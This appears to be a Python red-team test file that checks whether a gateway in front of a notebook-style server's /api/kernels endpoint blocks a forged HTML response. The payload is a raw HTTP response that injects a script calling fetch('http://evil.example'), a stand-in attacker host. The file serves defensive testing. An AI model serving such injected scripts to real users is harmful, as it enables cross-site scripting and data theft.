"""Answer an API call with a page of one's own, with script.

Way: gateway
Control: configurable-http-proxy straight to the same server
Held by: an answer that is not of the kind that its address has is refused
"""

from tests.redteam.roads import evil_server

PAYLOAD = b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 45\r\nConnection: close\r\n\r\n<script>fetch('http://evil.example')</script>"
REPEAT = b""


def test_control_it_passes_a_plain_proxy(open_road) -> None:
    with open_road(PAYLOAD, REPEAT) as answer:
        assert "<script>" in answer.text


def test_the_gateway_lets_nothing_of_it_through(evil_session) -> None:
    with evil_server(evil_session, PAYLOAD, REPEAT):
        answer = evil_session.get("/api/kernels")
    assert "evil.example" not in answer.text
    assert answer.status_code >= 500
